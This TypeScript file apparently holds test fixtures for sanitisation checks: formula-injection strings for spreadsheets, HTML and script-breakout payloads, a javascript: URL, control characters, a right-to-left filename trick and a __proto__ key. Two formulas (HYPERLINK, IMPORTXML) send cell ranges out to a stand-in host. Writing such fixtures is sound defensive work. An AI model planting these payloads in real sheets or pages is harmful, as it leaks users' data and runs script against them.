/** What somebody might write to make a cell calculate, or a page run something. */

export const PAYLOADS: Readonly<Record<string, string>> = {
  equals: '=1+1',
  plus: '+1+1',
  minus: '-2+3',
  at: '@SUM(1,1)',
  'tab first': '\t=1+1',
  'carriage return first': '\r=1+1',
  'line feed inside': 'a\n=1+1',
  link: '=HYPERLINK("https://example.com?x="&A1,"ver")',
  import: '=IMPORTXML("https://example.com/?"&CONCATENATE(A1:Z9),"//a")',
  image: '=IMAGE("https://example.com/x.png")',
  'apostrophe first': "'=1+1",
  'full-width equals': '＝1+1',
  markup: '<img src=x onerror="window.hostile=1">',
  script: '</script><script>window.hostile=1</script>',
  entity: '&quot;&lt;b&gt;',
  address: 'javascript:window.hostile=1',
  control: 'a\u0000b\u0007c\u001b[31m',
  'right to left': '\u202Egnp.exe\u202C \u200Fabc',
  'half a character': 'a\uD83D',
  'object words': '__proto__',
  pattern: '*; >=0; no: x',
  gaps: '{name} {n} $1 $& %s',
};

export const names = Object.keys(PAYLOADS);

/** One of each kind, where each costs a whole action. */
export const WORST = ['tab first', 'import', 'apostrophe first', 'markup', 'control', 'object words'];
